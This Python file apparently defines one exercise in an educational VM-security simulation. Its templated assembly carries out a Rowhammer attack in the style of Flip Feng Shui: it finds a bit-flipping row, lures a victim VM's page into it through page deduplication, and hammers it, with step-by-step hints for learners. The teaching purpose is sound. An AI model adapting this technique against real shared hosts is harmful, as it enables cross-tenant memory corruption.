"""A page of another VM is changed without a write: it shares a frame with an equal page, and its row is hammered."""

from vmwidgets.model.range.attack import Attack, Placement
from vmwidgets.model.words import said

ROW_HAMMER = Attack(
    id="row_hammer",
    title=said("a shared page in a hammered row"),
    code="""
    mov rsp, 0x1000             ; the stack grows down into page 0
    xor rdi, rdi
    mov rcx, 12
mine:                           ; no page of mine may be equal to another one, or the scanner takes its frame away
    mov [rdi + 8], rcx
    add rdi, {page_bytes}
    dec rcx
    jnz mine
    mov rbx, {row_bytes}        ; a row of mine between two others of mine
row:
    call hammer
    mov rdi, rbx                ; has a bit changed that I have not?
    add rdi, {line_bytes}
    mov rcx, {page_bytes}
    sub rcx, {line_bytes}
    shr rcx, 3
    mov r9, 2
page:
    mov r10, rcx
word:
    cmp [rdi], r11
    jne weak
    add rdi, 8
    dec r10
    jnz word
    add rdi, {line_bytes}
    dec r9
    jnz page
    add rbx, {row_bytes}
    cmp rbx, 0x8000
    jbe row
    jmp end
weak:                           ; here a bit can be changed: the victim's page shall come to lie here
    mov [rdi], r11
    mov rsi, rdi
    shr rsi, 12
    shl rsi, 12
    mov [rsi + 8], r11
    mov rax, {library_word}
    mov [rsi], rax
    mov r12, {round_cycles}
    add r12, r12
    add r12, r12
    rdtsc
    shl rdx, 32
    or rax, rdx
    add rax, r12
    mov rdx, rax
    shr rdx, 32
    mov rcx, 0x6e0
    wrmsr
    hlt                         ; the scanner maps the victim's page to my frame
    call hammer
    jmp end

hammer:                         ; open the rows before and behind rbx in turn
    mov rsi, rbx
    sub rsi, {row_bytes}
    mov rdi, rbx
    add rdi, {row_bytes}
    mov r8, {hammers}
strike:
    mov rax, [rsi]
    mov rax, [rdi]
    clflush [rsi]
    clflush [rdi]
    dec r8
    jnz strike
    xor r11, r11
    ret
end:
""",
    goal="victim_changed",
    placement=Placement(timed=True, contiguous=True),
    family="V5",
    number=13,
    like="Razavi et al. 2016 (Flip Feng Shui)",
    hints=(
        said("Can memory change without anybody writing to it?"),
        said("First find a row of your own that loses bits. Then think of whose page could come to lie in it."),
        said("Put a copy of the page of the library where a bit flips, wait for the scanner, and hammer again."),
    ),
)
"""Looks for a weak cell in its own memory, lets the victim's page be merged into it, and hammers."""
